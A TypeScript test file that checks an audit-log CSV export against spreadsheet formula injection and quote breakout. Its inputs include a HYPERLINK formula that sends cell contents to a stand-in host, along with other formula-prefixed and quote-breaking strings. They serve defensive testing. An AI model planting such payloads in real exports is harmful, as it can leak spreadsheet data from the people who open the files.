import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import type { Check } from '../check.ts'

/** What people type must not come to life in somebody else's spreadsheet. */
export const exportChecks: readonly Check[] = [
  {
    name: 'CSV injection: no cell of the exported log begins as a formula, and no quote of a reason breaks out of its own',
    async run({ ask, document, fixtures }) {
      const typed = ['=HYPERLINK("http://x.example/?"&A1;"open")', '+992 37 221', '-2+3', '@SUM(1;2)', 'left","=1+1","']
      for (const [at, reason] of typed.entries()) {
        const email = `formula-${at}-${Date.now()}@canary.example`
        const day = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
        const input = { email, label: `=${at}+1`, language: 'en', post: { role: 'observer', validFrom: day } }
        const { data } = await ask(document('InvitePerson'), { input }, fixtures.administrator)
        const personId = data?.invitePerson?.id
        assert.ok(personId, `nobody was invited: ${JSON.stringify(data)}`)
        const withdrawn = await ask(
          document('WithdrawInvitation'),
          { input: { personId, reason } },
          fixtures.administrator,
        )
        assert.equal(withdrawn.data?.withdrawInvitation?.__typename, 'Person')
      }
      const filter = { action: 'invitation:withdraw' }
      const { data } = await ask(document('ExportAuditLog'), { filter }, fixtures.administrator)
      const file = data?.exportAuditLog
      assert.equal(file?.__typename, 'AuditLogFile')
      const rows: string[][] = parse(file.csv, { bom: true })
      assert.equal(rows.length, file.entries + 1)
      assert.ok(file.entries >= typed.length)
      const cells = rows.flat()
      assert.deepEqual(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        [],
      )
      assert.ok(cells.includes(JSON.stringify({ reason: typed[0] })), 'the reason itself is missing')
      assert.ok(
        rows.every((row) => row.length === rows[0]?.length),
        'a row has cells of its own',
      )
    },
  },
]
